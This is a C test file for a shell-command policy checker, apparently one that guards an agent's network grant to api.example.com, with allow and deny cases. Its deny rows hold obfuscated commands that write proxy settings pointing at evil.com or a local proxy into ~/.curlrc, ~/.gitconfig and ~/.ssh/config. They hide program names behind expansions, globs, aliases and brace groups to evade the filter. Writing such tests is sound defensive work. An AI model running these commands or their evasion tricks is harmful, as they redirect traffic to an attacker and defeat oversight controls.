/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/kernel/test_rev65_hosts.c - review 25 "hosts" (leaf_host_kv.c,
 * leaf_host_prog.c, constraint_domain.c):
 *   - K1: config text written to a file whose name holds an expansion,
 *     a quote, a backslash or a glob is read (it may be a config file);
 *   - K2: a -c script opening with a brace group, a function or time {
 *     reads its command word past them;
 *   - M1: an alias or function whose body runs nothing that connects,
 *     or a held name that is no such program, arms no other leaf;
 *   - K3: a name with an expansion inside it or a program-like glob
 *     behind an unlisted runner arms the segment;
 *   - K4: config text piped or here-stringed into a program that
 *     writes a config file the leaf names is read.
 * The grant is domain_exact api.example.com; every call carries its URL.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "kernel/hostcost.h"
#include "kernel/kernelutil.h"

#define NOW      1710000300u
#define DX       KT_DX("api.example.com")
#define NROWS(a) (sizeof(a) / sizeof((a)[0]))

/* K1: a write target the shell builds (the last rows: plain files, allowed) */
Test(rev65_hosts, k1_a_built_write_target_reads_config_text)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'proxy = 127.0.0.1:18222\\\\n' "
         "> ~/.$(echo cur)lrc\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf '[http]\\\\nproxy = "
         "evil.com:3128\\\\n' > ~/.g''itconfig\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'proxy = 127.0.0.1:18222\\\\n' "
         "> ~/.${X:-cur}lrc\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'proxy = 127.0.0.1:18222\\\\n' "
         "> ~/.$(echo cur)lrc; ./fetch.sh\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat > ~/.$(echo cur)lrc <<EOF\\nproxy "
         "= 127.0.0.1:18222\\nEOF\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat > ~/.${X:-cur}lrc <<EOF\\nproxy = "
         "127.0.0.1:18222\\nEOF\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy = 127.0.0.1:18222' | tee "
         "~/.$(echo cur)lrc\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat >> ~/.$(printf s%s sh)/config "
         "<<EOF\\nHost *\\n  ProxyJump evil.com\\nEOF\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"mkdir -p ~/.s${x}sh; cat >> "
         "~/.s${x}sh/config <<EOF\\nHost *\\n  ProxyJump evil.com\\nEOF\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'proxy = 127.0.0.1:18222\\\\n' "
         "> ~/.curlr?; ./fetch.sh\"}",
         0},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"curl https://api.example.com/\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'host: db\\\\n' > config.yml "
         "&& ./deploy.sh\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy = 127.0.0.1:18222' > "
         "notes.txt\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* K2: -c scripts that open with a group or a function (the last rows allowed) */
Test(rev65_hosts, k2_a_script_group_hides_no_command_word)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ $0 -sx 127.0.0.1:18222 "
         "https://api.example.com/; }' \\\"$(printf cu)rl\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'f() { $0 -sx 127.0.0.1:18222 "
         "https://api.example.com/; }; f' \\\"$(printf cu)rl\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ exec $0 -sx 127.0.0.1:18222 "
         "https://api.example.com/; }' \\\"$(printf cu)rl\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"bash -c 'time { $0 -sx "
         "127.0.0.1:18222 https://api.example.com/; }' \\\"$(printf cu)rl\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ $0 config --global "
         "http.proxy evil.com:3128; }' \\\"$(printf g%s it)\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ $0 -o \\\"ProxyJump "
         "evil.com\\\" api.example.com; }' \\\"$(printf ss%s h)\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c 'function f { $0 -sx "
         "127.0.0.1:18222 https://api.example.com/; }; f' \\\"$(printf cu)rl\\\"\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '! $0 -sx 127.0.0.1:18222 "
         "https://api.example.com/' \\\"$(printf cu)rl\\\"\"}",
         0},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"sh -c '{ make -j4; }'\"}", 1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"bash -c 'time { ls -lax; }'\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* M1: harmless aliases and functions in another field (the last rows still deny) */
Test(rev65_hosts, m1_a_harmless_alias_arms_nothing)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"alias ll='ls -la'\", \"cmd\": "
         "\"grep -rnx main.py src\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"alias ll='ls -la'\", \"cmd\": \"ls "
         "-lax\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"alias gs='git status'\", \"cmd\": "
         "\"pytest -x tests\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"description\": \"alias k=kubectl is set in the "
         "image\", \"cmd\": \"grep -rnx main.py src\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"ll() { ls -la; }\", \"cmd\": \"grep "
         "-rnx main.py src\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"body\": \"install with: ln -s /usr/bin/make "
         "m\", \"cmd\": \"grep -nx main.py f\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"alias c=curl\", \"cmd\": \"c -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"c() { curl \\\"$@\\\"; }\", "
         "\"cmd\": \"c -sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"setup\": \"alias c=\\\"$X\\\"\", \"cmd\": \"c "
         "-sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"body\": \"ln -s /usr/bin/curl c\", \"cmd\": "
         "\"./c -sx 127.0.0.1:18222 https://api.example.com/\"}",
         0},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* K3: cu${x}rl and /usr/bin/cur? behind strace or fakeroot (the last rows allowed) */
Test(rev65_hosts, k3_a_glued_or_globbed_name_behind_a_runner)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"strace -o /dev/null cu${x}rl -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"strace -o /dev/null /usr/bin/cur? -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"fakeroot /usr/bin/cur? -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"fakeroot gi${x}t config --global "
         "http.proxy evil.com:3128\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"fakeroot /usr/bin/g?t config --global "
         "http.proxy evil.com:3128\"}",
         0},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"tar -xzf build-${VERSION}.tgz\"}",
         1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"cp -ax src/$v dst\"}", 1},
        {DX, "{\"url\": \"https://api.example.com/\", \"cmd\": \"ls -lax *.py\"}", 1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* K4: dd of=, cp /dev/stdin, sponge, <<< into a listed file (the last rows allowed) */
Test(rev65_hosts, k4_config_text_piped_into_a_listed_file)
{
    static const kt_row rows[] = {
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cp /dev/stdin ~/.curlrc <<< 'proxy = "
         "127.0.0.1:18222'\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'proxy = 127.0.0.1:18222\\\\n' "
         "| dd of=$HOME/.curlrc\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'proxy = 127.0.0.1:18222\\\\n' "
         "| cp /dev/stdin ~/.curlrc\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"echo 'proxy = 127.0.0.1:18222' | "
         "sponge ~/.curlrc\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf '[http]\\\\nproxy = "
         "evil.com:3128\\\\n' | dd of=$HOME/.gitconfig\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cp /dev/stdin ~/.$(echo cur)lrc <<< "
         "'proxy = 127.0.0.1:18222'\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'proxy = 127.0.0.1:18222\\\\n' "
         "| dd of=$HOME/.$(echo cur)lrc\"}",
         0},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"cat ~/.gitconfig | grep -c user\"}",
         1},
        {DX,
         "{\"url\": \"https://api.example.com/\", \"cmd\": \"printf 'a\\\\n' | sort > out.txt\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}
